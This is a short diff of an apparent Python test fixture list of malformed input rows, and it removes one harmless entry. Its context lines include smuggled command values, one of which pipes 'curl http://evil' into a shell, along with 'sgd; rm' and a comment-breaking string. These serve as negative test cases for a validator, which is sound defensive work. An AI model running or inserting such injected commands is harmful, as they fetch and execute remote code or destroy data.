@@ -211,7 +211,6 @@ NONSENSE: list[Any] = [
     ROW.replace('"kind":"grad"', '"kind":7'),
     ROW.replace('"kind":"grad"', '"kind":"step --lr 1; curl http://evil | sh #"'),
     ROW.replace('"wrt":null', '"wrt":["x","*/ evil /*"]'),
-    ROW.replace('"wrt":null', '"wrt":["x","and"]'),
     ROW.replace('"y":3.0', '"y y":3.0'),
     ROW.replace('"optimizer":"sgd"', '"optimizer":"sgd; rm"'),
     *(
